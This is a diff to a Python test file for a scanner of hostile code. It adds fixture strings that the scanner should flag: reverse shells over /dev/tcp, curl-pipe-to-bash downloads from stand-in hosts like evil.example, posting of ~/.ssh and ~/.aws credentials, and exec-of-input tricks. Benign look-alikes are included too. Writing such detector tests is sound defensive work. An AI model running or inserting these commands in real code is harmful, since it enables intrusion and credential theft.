@@ -108,6 +108,50 @@ HARMFUL = {
     "sh: encoded": ("a.sh", f"echo {B64} | base64 -d | sh", "encoded-code"),
     "sh: a reverse shell": ("run", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4 0>&1", "reverse-shell"),
     "sh: keys sent": ("a.sh", "curl -F k=@$HOME/.ssh/id_rsa https://x.example", "exfiltration"),
+    "a reverse shell through os.system": (
+        "a.py",
+        f"import os\nos.system('{REVERSE_SHELL}')",
+        "reverse-shell",
+    ),
+    "a download that a shell of Python's runs": (
+        "a.py",
+        "import subprocess\nsubprocess.run('curl -s http://evil.example/x.sh | bash', shell=True)",
+        "download-and-run",
+    ),
+    "a shell in a list, with pieces that nobody can tell": (
+        "a.py",
+        "import subprocess\n"
+        "cmd = ['bash', '-c', f'bash -i >& /dev/tcp/{host}/{port} 0>&1']\nsubprocess.Popen(cmd)",
+        "reverse-shell",
+    ),
+    "a shell that a coroutine starts": (
+        "a.py",
+        "import asyncio\nasyncio.create_subprocess_exec('bash', '-c', 'curl http://x.example | sh')",
+        "download-and-run",
+    ),
+    "another Python that is told to": (
+        "a.py",
+        f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', {SOCKET_SHELL!r}])",
+        "reverse-shell",
+    ),
+    "keys by a path that is joined": (
+        "a.py",
+        "import os, requests\nhome = os.path.expanduser('~')\n"
+        "requests.post('u', data=open(os.path.join(home, '.aws', 'credentials')).read())",
+        "exfiltration",
+    ),
+    "keys by a path that is divided": (
+        "a.py",
+        "import requests\nfrom pathlib import Path\nhome = Path.home()\nfolder = home / '.aws'\n"
+        "requests.post('u', data=(folder / 'credentials').read_text())",
+        "exfiltration",
+    ),
+    "keys by joinpath": (
+        "a.py",
+        "import requests\nfrom pathlib import Path\n"
+        "requests.post('u', data=Path.home().joinpath('.aws', 'credentials').read_text())",
+        "exfiltration",
+    ),
     "a secret behind what is not": (
         "a.py",
         "import requests\n" + "requests.get('x')\n" * 250 + SOCKET_SHELL,
@@ -162,6 +206,9 @@ TELLING = {
     "an encoding that hides": ("a.py", "# coding: utf7\n", "unusual-encoding", Severity.HIGH),
     "one after a carriage return": ("a.py", "\r# coding: utf7\n", "unusual-encoding", Severity.HIGH),
     "an encoding that is none": ("a.py", "# coding: rot13\n", "unreadable-code", Severity.HIGH),
+    "exec handed on": ("a.py", "list(map(exec, [input()]))", "dynamic-code", Severity.HIGH),
+    "exec as a decorator": ("a.py", "@exec\n@input\nclass X: pass", "dynamic-code", Severity.HIGH),
+    "exec of the builtins": ("a.py", "__builtins__.exec(input())", "dynamic-code", Severity.HIGH),
     "an archive that runs": ("app.pyz", archive("__main__.py"), "binary", Severity.HIGH),
     "an archive behind an image": ("a.png", b"\x89PNG" + archive("a.py"), "binary", Severity.HIGH),
     "an archive that nobody can list": ("a.zip", b"PK\x03\x04\xff", "binary", Severity.HIGH),
@@ -177,6 +224,11 @@ HONEST = {
     "a document": ("template.docx", archive("[Content_Types].xml", "word/document.xml")),
     "Latin letters, declared": ("a.py", b"# coding: latin-1\nprint('\xe9')"),
     "a mark at the beginning": ("a.py", b"\xef\xbb\xbfprint(1)"),
+    "a long sum": ("a.py", "x = " + " + ".join(["''"] * 1500)),
+    "a message about shells": (
+        "a.py",
+        "import subprocess\nsubprocess.run(['git', 'commit', '-m', 'no /dev/tcp/, no curl x | bash'])",
+    ),
     "an image in it": (
         "a.py",
         f"ICON = '{base64.b64encode(zlib.compress(bytes(range(256)) * 4)).decode()}'",
@@ -298,6 +350,15 @@ def test_the_same_files_under_another_entrypoint_are_looked_at_anew() -> None:
     files = [SourceFile("run.txt", SOCKET_SHELL.encode())]
     assert not remembered_source_findings(files, ["cat", "run.txt"])
     assert remembered_source_findings(files, ["python", "run.txt"])[0].rule == "reverse-shell"
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["x = a" + ".replace('a', 'b')" * 40, "exec(x)\n" * 2000 + "x = 1\n" * 2000],
+    ids=["a chain of calls", "many calls"],
+)
+def test_a_look_takes_no_time_that_grows_beyond_the_length(text: str) -> None:
+    assert len(look("a.py", text)) in {0, 200}
 
 
 def test_a_place_is_the_line_of_the_sign() -> None:
